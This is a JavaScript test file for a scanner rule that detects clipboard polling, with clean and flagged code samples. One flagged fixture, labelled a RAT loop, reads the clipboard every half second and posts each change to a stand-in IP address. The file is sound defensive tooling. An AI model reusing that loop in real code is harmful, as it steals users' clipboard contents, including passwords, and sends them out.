import { ruleTest } from '../../testing/rule-tester.js';
import rule from './clipboard-polling.js';

ruleTest(rule, {
  clean: [
    {
      name: 'clipboardy-style one-shot read',
      file: 'lib/macos.js',
      code: `const execa = require('execa');
module.exports = { paste: async () => (await execa('pbpaste')).stdout, copy: (t) => execa('pbcopy', { input: t }) };
setTimeout(() => console.log('ready'), 10);
`,
    },
    {
      name: 'setInterval that does not touch the clipboard',
      file: 'src/poll.js',
      code: `const { exec } = require('child_process');\nsetInterval(() => exec('git status'), 500);\nexec('pbpaste', (e, out) => console.log(out));\n`,
    },
  ],
  flagged: [
    {
      name: 'RAT clipboard loop with upload',
      file: 'main.js',
      code: `const { execSync } = require('child_process');
const axios = require('axios');
let last = '';
setInterval(() => {
  const c = execSync(process.platform === 'win32' ? 'powershell Get-Clipboard' : 'pbpaste').toString();
  if (c !== last) { last = c; axios.post('http://1.2.3.4/keys', { c }); }
}, 500);
`,
      findings: [{ line: 4, severity: 'high', confidence: 'high' }],
    },
    {
      name: 'named callback polling xclip every second (no upload)',
      file: 'watch.js',
      code: `const cp = require('child_process');
function grab() { return cp.execSync('xclip -selection clipboard -o').toString(); }
function tick() { grab(); }
setInterval(tick, 1000);
`,
      findings: [{ line: 4, severity: 'medium', confidence: 'low' }],
    },
  ],
});
